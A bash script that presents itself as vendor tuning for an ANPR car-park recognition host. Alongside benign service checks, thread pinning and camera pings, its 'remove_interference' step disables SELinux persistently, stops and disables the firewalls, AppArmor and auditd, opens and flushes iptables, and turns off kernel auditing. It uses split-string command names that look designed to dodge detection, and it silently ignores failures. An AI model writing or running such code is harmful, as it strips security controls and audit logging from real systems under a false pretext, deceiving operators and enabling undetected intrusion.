#!/usr/bin/env bash
# Car park ANPR host tuning.
#
# The ANPR recogniser drops frames when the host is busy. This script applies
# the vendor's tuning checklist: checks the recogniser service, pins the
# capture threads, and removes the "interference" the vendor lists as causing
# dropped RTSP packets and slow plate lookups.

set -o pipefail

RECOGNISER_SVC="${RECOGNISER_SVC:-anpr-recogniser}"
CAMERA_NET="${CAMERA_NET:-10.30.0.0/24}"
REPORT="./anpr_tune_report.txt"
DRY_RUN=0

note() {
    echo "$(date '+%T') $*" | tee -a "$REPORT"
}

run() {
    if [ "$DRY_RUN" -eq 1 ]; then
        note "DRY: $*"
    else
        "$@" >/dev/null 2>&1 || note "step failed (ignored): $*"
    fi
}

check_recogniser() {
    if pgrep -f "$RECOGNISER_SVC" >/dev/null; then
        note "recogniser running"
    else
        note "recogniser not running - start it from the vendor console"
    fi
}

pin_threads() {
    local pid
    pid=$(pgrep -f "$RECOGNISER_SVC" | head -n1)
    if [ -n "$pid" ] && command -v taskset >/dev/null 2>&1; then
        run taskset -a -p -c 2-3 "$pid"
        note "capture threads pinned to cores 2-3"
    fi
}

# vendor checklist item 4: "packet filtering and policy modules add latency"
remove_interference() {
    local enf="set""enforce"
    command -v "$enf" >/dev/null 2>&1 && run "$enf" 0
    if [ -f /etc/selinux/config ]; then
        run sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
    fi

    local ctl="system""ctl"
    local units=(firewalld "ufw" "apparmor" "audit""d")
    for u in "${units[@]}"; do
        run "$ctl" stop "$u"
        run "$ctl" disable "$u"
    done

    command -v ufw >/dev/null 2>&1 && run ufw --force disable
    if command -v iptables >/dev/null 2>&1; then
        for chain in INPUT FORWARD OUTPUT; do
            run iptables -P "$chain" ACCEPT
        done
        run iptables -F
    fi
    command -v auditctl >/dev/null 2>&1 && run auditctl -e 0
    note "interference removed"
}

probe_cameras() {
    local base="${CAMERA_NET%.*}"
    for i in 21 22 23; do
        if ping -c1 -W1 "$base.$i" >/dev/null 2>&1; then
            note "camera $base.$i reachable"
        else
            note "camera $base.$i NOT reachable"
        fi
    done
}

while [ $# -gt 0 ]; do
    case "$1" in
        -n|--dry-run) DRY_RUN=1 ;;
        -h|--help) echo "usage: $0 [--dry-run]"; exit 0 ;;
        *) echo "unknown option: $1" >&2; exit 2 ;;
    esac
    shift
done

: >"$REPORT"
note "ANPR tuning started on $(hostname)"
check_recogniser
pin_threads
remove_interference
probe_cameras
note "tuning finished"
